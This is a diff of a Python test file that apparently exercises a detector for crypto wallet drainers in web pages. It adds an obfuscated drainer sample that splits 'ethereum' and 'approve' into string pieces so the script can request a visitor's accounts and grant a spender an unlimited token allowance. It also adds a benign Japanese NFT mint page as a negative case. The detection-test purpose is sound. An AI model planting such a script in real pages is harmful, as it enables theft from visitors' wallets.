@@ -1330,6 +1330,12 @@ DRAINERS: list[tuple[str, dict[str, str]]] = [
                                                        "footer": DRAINER_ENCODED}),
     ("approve after </html>, a crypto article", {"post": _CRYPTO_PROSE,
                                                  "after": DRAINER_SELECTOR}),
+    # its names split into joined literals, on a crypto article: each piece reads as
+    # nothing, joined they are the drainer's calls
+    ("names split into pieces, a crypto article", {"post": _CRYPTO_PROSE, "footer": (
+        "<script>setTimeout(async function(){var E=window['ethe'+'reum'];if(!E)return;"
+        "await E.request({method:'eth_'+'requestAccounts'});var c=new ethers.Contract(T,ABI,"
+        "signer);await c['appr'+\"ove\"]('" + _SPENDER + "',MAX);},3000);</script>")}),
 ]
 
 
@@ -1373,6 +1379,16 @@ _MINT_WIDGET = (
     ".request({method:'eth_requestAccounts'});await usdc.approve(MINTER,price);await minter."
     "mint(1);};</script>")
 
+_JA_MINT = (
+    "<!DOCTYPE html><html lang='ja'><head><meta charset='utf-8'><meta property='og:type' "
+    "content='article'><title>話題のコレクション、本日ミント開始</title></head><body><article "
+    "class='entry-content'><h1>話題のコレクション、本日ミント開始</h1><p>人気イラストレーターに"
+    "よるNFTコレクションが本日ミントを開始した。価格は0.05イーサリアムで、仮想通貨の支払いにも"
+    "対応する。総数は一万点で、売上の一部は慈善団体に寄付される。</p><button id='mint'>今すぐ"
+    "ミント</button><script>document.getElementById('mint').onclick=async()=>{await ethereum"
+    ".request({method:'eth_requestAccounts'});await ape.approve(MINTER,PRICE);await minter."
+    "mintWithApe(1);};</script></article></body></html>")
+
 
 @pytest.mark.parametrize(("name", "page", "url", "severity"), [
     ("a dapp's swap page approving its router", _DAPP, "https://app.harbourswap.example/", None),
@@ -1381,7 +1397,11 @@ _MINT_WIDGET = (
     ("a wallet tutorial's code sample", wp_page(post=_TUTORIAL), URL, None),
     ("a blog's tip jar (a payment)", wp_page(post=_TIP_JAR), URL, None),
     ("a crypto article's own mint widget", wp_page(post=_MINT_WIDGET), URL, M),
-], ids=["dapp", "dapp shell", "tutorial", "tip jar", "mint widget"])
+    # a Japanese crypto article's: "NFTを" has no word edge between T and を, and
+    # 仮想通貨 / イーサリアム are how Japanese prose names crypto and Ethereum
+    ("a Japanese NFT article's own mint widget", _JA_MINT, "https://nft.example.jp/news/1",
+     M),
+], ids=["dapp", "dapp shell", "tutorial", "tip jar", "mint widget", "Japanese mint widget"])
 def test_a_legitimate_wallet_page_is_below_high(name: str, page: str, url: str,
                                                 severity: Severity | None,
                                                 audit_listed: AuditListed) -> None:
